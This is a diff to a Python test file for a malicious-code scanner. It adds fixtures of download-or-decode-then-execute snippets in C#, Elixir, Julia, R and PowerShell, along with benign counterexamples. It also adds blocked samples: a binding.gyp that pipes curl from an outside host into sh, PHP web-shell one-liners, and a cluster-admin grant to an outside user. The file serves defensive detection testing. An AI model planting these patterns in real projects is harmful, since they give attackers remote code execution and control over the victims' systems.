@@ -1,4 +1,4 @@
-"""What programs in Ruby, PHP, Perl, Lua, Go, Rust and PowerShell fetch or decode, and run."""
+"""What programs in languages that are not followed name by name fetch or decode, and run."""
 
 from __future__ import annotations
 
@@ -19,6 +19,10 @@ GOT = {
         'raw, _ := os.ReadFile("x.dat")\n\tb, _ := base64.StdEncoding.DecodeString(string(raw))',
     ],
     "rs": [f'let b = reqwest::blocking::get("{AT}").unwrap().text().unwrap();', "let b = base64::decode(read()).unwrap();"],
+    "cs": [f'await http.GetByteArrayAsync("{AT}")', "Convert.FromBase64String(kept)"],
+    "exs": [f'HTTPoison.get!("{AT}").body', "Base.decode64!(File.read!(\"x.dat\"))"],
+    "jl": [f'download("{AT}")', 'base64decode(read("x.dat", String))'],
+    "R": [f'readLines("{AT}")', "memDecompress(kept)"],
     "ps1": [
         f"(irm {AT})",
         "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content x.dat -Raw)))",
@@ -36,6 +40,10 @@ RUN = {
         '\tG\n\tcmd := string(b)\n\texec.Command("sh", "-c", cmd).Run()\n}',
     ],
     "rs": ['    G\n    Command::new("sh").arg("-c").arg(&b).spawn();\n}', '    G\n    std::fs::write("/tmp/x.sh", &b);\n    Command::new("sh").arg("/tmp/x.sh").spawn();\n}'],
+    "cs": ["var b = G;\nAssembly.Load(b);", 'File.WriteAllBytes("/tmp/x", G);\nProcess.Start("/tmp/x");', "var s = G;\nProcess.Start(s);"],
+    "exs": ["Code.eval_string(G)", "body = G\nSystem.shell(body)", "{:ok, {_, _, body}} = G\nCode.eval_string(to_string(body))"],
+    "jl": ["include(G)", "code = G\neval(Meta.parse(code))", "code = G\ninclude_string(Main, String(code))"],
+    "R": ["eval(parse(text = G))", "x <- G\nsystem(x)", "code = G\neval(parse(text=code))"],
     "ps1": ["iex G", "$x = G\niex $x", "G | iex", "& ([scriptblock]::Create(G))", "Set-Content $env:TEMP\\x.ps1 G\npowershell -File $env:TEMP\\x.ps1"],
 }  # fmt: skip
 HEAD = {
@@ -62,8 +70,32 @@ HONEST = {
     "a.lua": "local body = http.request('https://api.weather.gov/alerts')\nprint(body)\nos.execute('mkdir -p out')\n",
     "a.go": 'package main\nfunc main() {\n\tr, _ := http.Get("https://api.weather.gov/alerts")\n\tb, _ := io.ReadAll(r.Body)\n\tfmt.Println(string(b))\n\texec.Command("git", "status").Run()\n}\n',
     "a.rs": 'fn main() {\n    let b = reqwest::blocking::get("https://api.weather.gov/alerts").unwrap().text().unwrap();\n    println!("{b}");\n    Command::new("cargo").arg("build").status();\n}\n',
+    "a.cs": 'var s = await http.GetStringAsync("https://api.weather.gov/alerts");\nFile.WriteAllText("a.json", s);\nProcess.Start("code", "a.json");\nvar b = Convert.FromBase64String(config.Icon);\nFile.WriteAllBytes("icon.png", b);\nAssembly.Load("Plugins");\n',
+    "a.exs": '{:ok, r} = Req.get("https://api.weather.gov/alerts")\nIO.puts(r.body)\nSystem.cmd("git", ["status"])\nFile.write!("a.png", Base.decode64!(image))\n',
+    "a.jl": 'using Downloads\nDownloads.download("https://api.weather.gov/alerts", "a.json")\ninclude("plot.jl")\nrun(`git status`)\n',
+    "a.R": 'd <- readLines("https://www.gutenberg.org/files/11/11-0.txt")\nsource("plot.R")\nplot(d)\nsystem("git status")\n',
     "a.ps1": "$alerts = irm https://api.weather.gov/alerts\n$alerts | ConvertTo-Json\n$bytes = [Convert]::FromBase64String($env:CERT_B64)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)\n& .\\build.ps1\n",
 }  # fmt: skip
+
+
+ALSO = {
+    "a.R": f"source(url('{AT}'))\n",
+    "binding.gyp": "{'variables': {'v': '<!(curl -s https://cdn.palette-core.net/v | sh)'}}\n",
+    "a.php": "<?php $f = $_GET['f'];\n$f($_POST['q']);\n",
+    "b.php": '<?php $a = $_REQUEST;\n$f = "sys"."tem";\n$f($a["q"]);\n',
+    "c.php": "<?php call_user_func($_GET['f'], $_GET['a']);\n",
+    "a.yaml": "kind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: ops@palette-core.net}]\n",
+}
+
+
+@pytest.mark.parametrize("name", ALSO)
+def test_what_others_say_is_run_in_other_forms_too(name: str) -> None:
+    assert scan_text(ALSO[name], name).decision.value == "block"
+
+
+def test_what_a_build_asks_of_the_machine_is_no_finding() -> None:
+    text = "{'variables': {'v': '<!(node -p \"process.version\")', 'd': '<!@(pkg-config --libs x)'}}"
+    assert scan_text(text, "binding.gyp").decision.value == "clean"
 
 
 @pytest.mark.parametrize("name", HONEST)
